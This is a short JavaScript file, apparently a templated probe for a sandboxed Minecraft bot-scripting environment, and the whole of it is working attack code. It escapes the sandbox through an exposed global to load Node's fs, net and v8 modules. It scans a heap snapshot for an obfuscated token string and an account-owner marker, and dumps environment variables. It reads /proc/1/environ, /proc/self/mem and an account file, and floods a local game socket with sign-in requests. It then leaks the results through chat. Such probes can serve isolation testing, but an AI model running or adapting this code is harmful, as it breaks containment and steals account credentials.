// Looks for the account with all of Node in its hands: in memory, in files, at the door, on the network. Says what it could reach.
async function main (bot) {
  const { process } = Vec3.door.global
  const [fs, net, v8] = ['node:fs', 'node:net', 'node:v8'].map(name => process.getBuiltinModule(name))
  const said = []

  async function held (heap) {
    const [needle, known] = [['tOk', 'En-'].join(''), ['Account', 'Owner'].join('')]
    const found = new Set()
    let tail = ''
    for await (const chunk of heap) {
      const text = tail + chunk
      for (const word of [needle, known]) if (text.includes(word)) found.add(word)
      tail = text.slice(-100)
    }
    return [...found]
  }

  const ask = (address, words) => new Promise(resolve => {
    const socket = net.connect(address)
    let answer = ''
    socket.on('data', data => { answer += data })
    socket.on('error', error => { answer += error.code })
    socket.on('close', () => resolve(answer))
    socket.write(words)
    setTimeout(() => socket.destroy(), 1000)
  })

  bot.chat('memory: ' + await held(v8.getHeapSnapshot()))
  bot.chat('environment: ' + Object.keys(process.env).sort())
  for (const path of ['@FOLDER@', '@FOLDER@/account.json', '/proc/1/environ', '/proc/self/mem', '/run', '/tmp']) {
    try {
      said.push(path + ' ' + (fs.statSync(path).isDirectory() ? fs.readdirSync(path) : fs.readFileSync(path)))
    } catch (error) {
      said.push(error.code)
    }
  }
  bot.chat('files: ' + said)
  for (const words of ['{"do":"check"}\n', '{"do":"sign_in"}\n'.repeat(100), 'POST /session/minecraft/join HTTP/1.1\r\n\r\n']) bot.chat(`door: ${await ask({ path: '/run/game' }, words)}`)
  bot.chat('services: ' + await ask({ host: '127.0.0.1', port: Number('@SERVICES@') }, 'POST /mood HTTP/1.1\r\n\r\n'))
}
